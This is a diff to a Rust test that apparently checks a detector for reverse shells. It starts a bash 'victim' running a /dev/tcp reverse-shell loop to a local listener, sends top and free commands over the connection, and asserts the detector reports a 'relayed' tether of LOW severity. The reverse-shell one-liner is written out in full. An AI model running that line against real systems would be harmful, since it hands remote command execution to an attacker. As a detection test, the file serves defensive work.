@@ -68,17 +68,30 @@ fn bash_cat_loop() {
     prove_loop("/bin/bash", "-c", text, (3, "MEDIUM", &[1, 2]));
 }
 
-/// bash keeps the answer and writes it to the socket by itself.
+/// bash keeps the answer and writes it to the socket by itself. What a shell does for a pipeline looks the same for a
+/// moment, so that only commands that live longer are found.
 #[test]
 fn bash_substitution_loop() {
-    require!("bash");
+    require!("bash", "top", "free");
     Daemon::shared();
     let attacker = Listener::tcp();
     let port = attacker.port();
-    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l 2>&1); echo \"$o\" >&5; done";
+    let line =
+        "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l 2>&1); echo \"$o.\" >&5; done";
     let victim = Victim::start("/bin/bash", &["-c", &line.replace("PORT", &port.to_string())]);
-    let found = common::relayed::prove_popen(Daemon::shared(), attacker.accept(), victim, port, "bash");
-    assert_eq!(found.severity(), "LOW", "{}", found.brief());
+    let mut session = attacker.accept();
+    for line in ["top -b -n2 -d0.2", "free -s0.1 -c3"] {
+        session.send(&format!("{line}\n"));
+        session.hear(".\n");
+    }
+    let found = wait_or_show(Daemon::shared(), &[port], "row 6", |record| {
+        record.row() == 6
+            && record.ran(&["top", "-b", "-n2", "-d0.2"])
+            && record.ran(&["free", "-s0.1", "-c3"])
+    });
+    assert_eq!((found.text("Tether_Kind"), found.severity()), ("relayed", "LOW"), "{}", found.brief());
+    drop(session);
+    ends(Daemon::shared(), victim, &[port], &found, 1);
 }
 
 #[test]
